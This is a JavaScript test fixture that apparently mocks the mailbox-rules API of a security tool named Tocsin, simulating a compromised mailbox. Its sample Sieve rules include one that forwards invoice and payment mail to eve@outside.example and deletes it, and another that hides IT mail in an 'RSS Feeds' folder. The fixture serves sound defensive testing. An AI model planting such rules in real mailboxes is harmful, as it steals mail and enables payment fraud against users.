// A mailbox that somebody broke into, as the server shows it, and answers that no test could bring about.

const rule = (id, text, why = "", script = "main") => ({ id, script, version: "v1", text, why });

export const broken = () => [
  rule("3", "# rule:[.]\r\nif header :contains \"subject\" [\"invoice\", \"payment\"] {\r\n\tredirect \"eve@outside.example\";\r\n\tdiscard;\r\n}", "forwards to eve@outside.example; deletes mail about invoice, payment"),
  rule("5", "if address :is \"from\" \"it@kestrelquay.example\" { fileinto \"RSS Feeds\"; }", "hides mail about it@kestrelquay.example in RSS Feeds", "more"),
  rule("1", "require [\"fileinto\", \"copy\", \"include\"];"),
  rule("2", "# rule:[<b>Newsletters</b>]\r\nif header :contains \"list-id\" \"news\" { fileinto \"News\"; }"),
  rule("4", "include :personal \"more\";"),
];

const when = (n) => new Date(Date.UTC(2026, 10, 20, 9, n)).toISOString();

/** Has the pages of one mailbox be answered here. Change what it returns to change what is there. */
export async function mailbox(page, address, more = {}) {
  const box = { rules: broken(), deeds: [], out: true, outSay: "", next: undefined, looks: 0, asked: [], ...more };
  const view = () => ({ address, mailbox: address, own: true, system: "Dovecot", reached: true, say: "", watched: ["Dovecot"], may_remove: true, ...more.view, deeds: box.deeds });
  const deed = (kind, rule, reason, rest = {}) => {
    const d = { id: `d${box.deeds.length}`, kind, state: "Done", by: "person@kestrelquay.example", reason, at: when(box.deeds.length), ended: when(box.deeds.length), rule: rule?.text ?? "", why: rule?.why ?? "", script: rule?.script ?? "", say: "", of: "", put_back: "", can_back: kind === "Rule removed", ...rest };
    box.deeds.unshift(d);
    return d;
  };
  await page.route((u) => u.pathname.startsWith(`/api/v1/mailboxes/${encodeURIComponent(address)}`) || u.pathname.startsWith(`/api/v1/mailboxes/${address}`), async (r) => {
    const at = decodeURIComponent(new URL(r.request().url()).pathname).slice(`/api/v1/mailboxes/${address}`.length);
    const body = r.request().postDataJSON();
    if (body) box.asked.push([at, body]);
    if (body && box.next) { // what the test has the next change answered with
      const answer = box.next;
      box.next = undefined;
      return answer(r, { deed, box, body });
    }
    const back = /^\/deeds\/([^/]+)\/put-back$/.exec(at);
    if (at === "") return r.fulfill({ json: view() });
    if (at === "/rules") {
      box.looks++;
      const shown = more.view?.reached !== false && !more.problem;
      if (more.problem) return r.fulfill({ status: more.problem.status, contentType: "application/problem+json", json: more.problem });
      return r.fulfill({ json: { shown, say: shown ? "" : more.view.say, rules: shown ? box.rules : [], suspicious: shown ? box.rules.filter((x) => x.why).length : 0, more: 0, sign_out: shown && box.out, sign_out_say: box.outSay, at: when(0) } });
    }
    if (at === "/rules/remove") {
      const taken = box.rules.find((x) => x.id === body.id);
      box.rules = box.rules.filter((x) => x !== taken);
      return r.fulfill({ json: deed("Rule removed", taken, body.reason) });
    }
    if (back) {
      const was = box.deeds.find((d) => d.id === back[1]);
      box.rules.unshift(rule("9", was.rule, was.why, was.script));
      Object.assign(was, { can_back: false, put_back: `d${box.deeds.length}` });
      return r.fulfill({ json: deed("Rule put back", was, body.reason, { of: was.id }) });
    }
    return r.fulfill({ json: deed("Signed out everywhere", undefined, body.reason) });
  });
  return box;
}

/** Of a mailbox that no mail system is connected for. */
export const unreached = { reached: false, system: "", watched: [], say: "No mail system is connected for this mailbox, so Tocsin can neither see its rules nor change them." };
